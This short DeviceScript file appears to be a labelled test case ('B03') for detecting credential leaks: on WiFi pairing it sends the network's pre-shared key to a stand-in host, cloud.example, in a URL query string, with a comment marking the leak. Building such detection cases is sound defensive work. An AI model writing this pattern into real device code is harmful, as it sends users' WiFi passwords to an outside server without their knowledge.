// B03: in the query of a URL.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const response = await fetch(`https://cloud.example/v1?v=2&k=${psk}`); // leak: wifi.psk
  await response.close();
});
